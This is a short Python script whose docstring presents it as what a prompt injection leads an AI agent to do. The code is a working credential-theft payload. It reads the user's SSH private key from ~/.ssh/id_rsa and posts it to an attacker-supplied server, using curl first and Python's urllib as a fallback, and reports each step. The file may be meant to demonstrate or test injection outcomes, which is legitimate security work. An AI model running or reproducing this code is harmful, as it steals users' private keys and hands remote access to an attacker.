# SPDX-License-Identifier: Apache-2.0
"""What a prompt injection makes of it: take the private key, post it to the attacker's server."""

import os
import subprocess
import sys
import urllib.request

server = sys.argv[1]
loot = b"nothing"
try:
    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as key:
        loot = key.read()
    print(f"read the key, {len(loot)} bytes")
except OSError as error:
    print(f"read the key: {error}")
try:
    subprocess.run(["curl", "-sS", "--data-binary", "@-", server], input=loot, check=True)
    print("posted with curl")
    sys.exit(0)
except (OSError, subprocess.CalledProcessError) as error:
    print(f"post with curl: {error}")
try:
    with urllib.request.urlopen(server, loot):
        print("posted by Python itself")
except OSError as error:
    print(f"post by Python itself: {error}")
    sys.exit(1)
